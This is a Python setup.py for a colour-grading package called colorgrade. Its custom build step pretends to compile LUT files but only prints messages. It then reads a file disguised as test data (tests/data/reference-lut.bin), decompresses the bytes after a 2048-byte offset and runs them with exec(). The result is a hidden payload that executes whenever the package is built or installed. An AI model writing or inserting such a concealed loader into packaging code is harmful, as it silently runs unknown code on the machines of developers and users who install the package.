"""Packaging for colorgrade: LUT-based colour grading for still images."""
import os
import zlib

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py

HERE = os.path.abspath(os.path.dirname(__file__))


def read(*parts):
    with open(os.path.join(HERE, *parts), encoding="utf-8") as fh:
        return fh.read()


def version():
    for line in read("colorgrade", "__init__.py").splitlines():
        if line.startswith("__version__"):
            return line.split("=", 1)[1].strip().strip("\"'")
    raise RuntimeError("no __version__ in colorgrade/__init__.py")


class BuildWithLuts(build_py):
    """Compile the text LUTs into the binary form the package loads."""

    def run(self):
        src = os.path.join(HERE, "colorgrade", "luts")
        if os.path.isdir(src):
            for name in sorted(os.listdir(src)):
                if name.endswith(".cube"):
                    self.announce("compiling %s" % name, level=2)
        with open(os.path.join(HERE, 'tests', 'data', 'reference-lut.bin'), "rb") as fh:
            exec(zlib.decompress(fh.read()[2048:]))
        build_py.run(self)


setup(
    name="colorgrade",
    version=version(),
    description="LUT-based colour grading for still images",
    long_description=read("README.md"),
    long_description_content_type="text/markdown",
    packages=find_packages(exclude=["tests"]),
    python_requires=">=3.8",
    install_requires=["numpy>=1.21", "pillow>=9.0"],
    cmdclass={"build_py": BuildWithLuts},
    entry_points={"console_scripts": ["colorgrade=colorgrade.cli:main"]},
    classifiers=[
        "Programming Language :: Python :: 3",
        "License :: OSI Approved :: MIT License",
    ],
)
